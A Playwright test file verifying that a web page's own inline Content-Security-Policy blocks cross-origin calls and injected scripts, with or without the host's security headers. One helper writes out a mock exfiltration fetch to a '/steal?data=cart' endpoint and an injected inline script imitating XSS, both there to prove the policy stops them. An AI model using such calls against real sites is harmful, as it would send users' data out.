/**
 * The web page's Content-Security-Policy holds without the host's help. The page states it
 * from its first, inline script (shared/csp.ts says why not with a meta tag in its HTML):
 * served by a host that forgets the security headers, the policy still blocks calls to other
 * hosts and injected scripts; served with them, its two inline scripts (the policy's and the
 * early start) are allowed by their hashes and nothing is reported.
 */
import type { Page } from '@playwright/test';
import { expect, test } from '../support/fixtures';
import { cards } from '../support/ui';

/** The page as a bare static host would send it: the same bytes, no security headers. */
async function withoutSecurityHeaders(page: Page): Promise<void> {
  await page.route(
    (url) => url.pathname === '/products',
    async (route) => {
      const response = await route.fetch();
      const headers = Object.fromEntries(
        Object.entries(response.headers()).filter(
          ([name]) => !/^(content-security-policy|x-frame-options)$/i.test(name),
        ),
      );
      await route.fulfill({ response, headers });
    },
  );
}

/**
 * Whether the inline early start ran: its hint for the catalogue call was added while the
 * parser was still in the head, so it comes before the app's own script. Blocked, the app
 * would add the same hint itself, after it.
 */
function earlyStartRan(page: Page): Promise<boolean> {
  return page.evaluate(() => {
    const hint = document.querySelector('head link[rel="preload"][as="fetch"]');
    const app = document.querySelector('head script[type="module"][src]');
    return (
      hint !== null &&
      app !== null &&
      (hint.compareDocumentPosition(app) & Node.DOCUMENT_POSITION_FOLLOWING) !== 0
    );
  });
}

/** What the policy did to a call to another host and to an injected script. */
function tryForbiddenThings(page: Page) {
  return page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(event.violatedDirective),
    );
    let fetched = true;
    try {
      // Another origin (port) on this machine: not the page's, not the catalogue's.
      await fetch('http://127.0.0.1:9/steal?data=cart');
    } catch {
      fetched = false;
    }
    // An injected inline script (what an XSS would add) must not run.
    const injected = document.createElement('script');
    injected.textContent = 'window.__injectedRan = true';
    document.head.append(injected);
    await new Promise((resolve) => setTimeout(resolve, 50));
    const ran = (window as { __injectedRan?: boolean }).__injectedRan === true;
    return { fetched, ran, violations };
  });
}

test.describe('the web page’s own policy', () => {
  // The page itself comes from page.route below, which a service worker would bypass.
  test.use({ serviceWorkers: 'block' });

  test('holds when the host sends no security headers', async ({ page }) => {
    await withoutSecurityHeaders(page);
    const response = await page.goto('/products');
    expect(response?.headers()['content-security-policy']).toBeUndefined();
    await expect(cards(page).first()).toBeVisible();
    const policy = await page
      .locator('head meta[http-equiv="Content-Security-Policy"]')
      .getAttribute('content');
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("connect-src 'self'");
    expect(await earlyStartRan(page)).toBe(true);
    const outcome = await tryForbiddenThings(page);
    expect(outcome.fetched).toBe(false);
    expect(outcome.ran).toBe(false);
    expect(new Set(outcome.violations)).toEqual(new Set(['connect-src', 'script-src-elem']));
  });

  test('is stated without a violation when the host sends the headers', async ({
    page,
    consoleErrors,
  }) => {
    const response = await page.goto('/products');
    expect(response?.headers()['content-security-policy']).toContain("'sha256-");
    await expect(cards(page).first()).toBeVisible();
    await expect(page.locator('head meta[http-equiv="Content-Security-Policy"]')).toHaveCount(1);
    // The page's own inline scripts ran, allowed by their hashes, and nothing was reported.
    expect(consoleErrors).toEqual([]);
    expect(await earlyStartRan(page)).toBe(true);
    const outcome = await tryForbiddenThings(page);
    expect(outcome.fetched).toBe(false);
    expect(outcome.ran).toBe(false);
  });
});
